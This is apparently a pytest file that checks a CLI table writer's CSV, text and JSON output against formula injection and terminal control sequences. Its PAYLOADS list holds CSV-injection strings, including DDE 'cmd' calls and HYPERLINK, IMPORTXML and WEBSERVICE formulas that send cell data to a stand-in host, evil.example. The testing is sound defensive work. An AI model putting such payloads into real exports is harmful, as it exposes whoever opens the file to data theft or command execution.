"""How tables are written out: for eyes, for spreadsheets, for programs."""

import csv
import io
import json
from datetime import date
from pathlib import Path

import pyarrow as pa
import pytest
import typer

from isctext.cli.shared import finish, write_table

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=",
    "=1+1\n=2+2",
]
MARKS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")


def _csv(capsys, table):
    write_table(table, as_csv=True)
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(capsys, payload):
    rows = _csv(capsys, pa.table({"a": [payload], "b": [[payload, "x"]]}))
    assert len(rows) == 2
    for cell in rows[1]:
        assert cell.startswith("'")
        assert cell[1:].startswith(MARKS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_header_is_a_formula(capsys, payload):
    header = _csv(capsys, pa.table({payload: ["x"]}))[0]
    assert not header[0].startswith(MARKS)


def test_harmless_cells_are_left_alone(capsys):
    table = pa.table(
        {
            "text": ["L’économie, « œuvre »", "a=b", 'un "mot"', ""],
            "number": [-1, 0, 1, None],
            "rate": [-0.5, 1234567.891, 0.0, None],
            "day": [date(2024, 1, 2), None, None, None],
            "list": [["a", "b"], [], None, ["c"]],
        }
    )
    assert _csv(capsys, table) == [
        ["text", "number", "rate", "day", "list"],
        ["L’économie, « œuvre »", "-1", "-0.5", "2024-01-02", "a b"],
        ["a=b", "0", "1234567.891", "", ""],
        ['un "mot"', "1", "0.0", "", ""],
        ["", "", "", "", "c"],
    ]


@pytest.mark.parametrize(
    "poison", ["\x1b[2J", "\x07", "\x9b31m", "\u202eevil", "\x7f", "\x00", "\u200b", "\x1b]0;t\x07"]
)
def test_no_cell_drives_the_terminal(capsys, poison):
    write_table(pa.table({f"n{poison}": ["x", f"a{poison}b"], "l": [[poison], ["y"]]}))
    out = capsys.readouterr().out
    assert all(c.isprintable() or c == "\n" for c in out)
    assert len(out.splitlines()) == 3


def test_aligned_output(capsys):
    write_table(
        pa.table({"name": ["été", "a\nb\tc"], "rate": [0.12345, 12.5], "none": [None, [1, 2]]})
    )
    assert capsys.readouterr().out.splitlines() == [
        "name   rate    none",
        "été    0.1235",
        "a b c  12.50   1 2",
    ]


def test_an_empty_table(capsys):
    empty = pa.table({"a": pa.array([], pa.string())})
    write_table(empty)
    assert capsys.readouterr().out == "a\n"
    assert _csv(capsys, empty) == [["a"]]
    write_table(empty, as_json=True)
    assert capsys.readouterr().out == ""


def test_json_is_one_object_a_line_and_loses_nothing(capsys):
    table = pa.table(
        {"text": ["é\n\x1b", "=1"], "day": [date(2024, 1, 2), None], "list": [["a"], []]}
    )
    write_table(table, as_json=True)
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line) for line in lines] == [
        {"text": "é\n\x1b", "day": "2024-01-02", "list": ["a"]},
        {"text": "=1", "day": None, "list": []},
    ]


def test_json_has_no_nan(capsys):
    """NaN is not JSON: strict readers refuse the whole line."""
    write_table(pa.table({"a": [float("nan"), float("inf"), 1.5]}), as_json=True)

    def refuse(name):
        raise AssertionError(name)

    lines = capsys.readouterr().out.splitlines()
    found = [json.loads(line, parse_constant=refuse)["a"] for line in lines]
    assert found == [None, None, 1.5]


def test_json_drives_no_terminal(capsys):
    write_table(pa.table({"a": ["\x9b31m\x7f\u202e\U000e0041é"]}), as_json=True)
    out = capsys.readouterr().out
    assert out.strip().isprintable()
    assert json.loads(out) == {"a": "\x9b31m\x7f\u202e\U000e0041é"}
    assert "é" in out


def test_finish_says_when_too_much_was_refused(capsys):
    finish(above_threshold=False, documents=1, rejections=1)
    assert capsys.readouterr().err == ""
    with pytest.raises(typer.Exit):
        finish(above_threshold=True, documents=9, rejections=1, folder=Path("mon étude"))
    said = capsys.readouterr().err
    assert "1 of 10 items was refused" in said
    assert "isctext quarantine list 'mon étude'" in said
    with pytest.raises(typer.Exit) as caught:
        finish(above_threshold=True, documents=6, rejections=4)
    assert caught.value.exit_code == 3
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "4 of 10" in captured.err
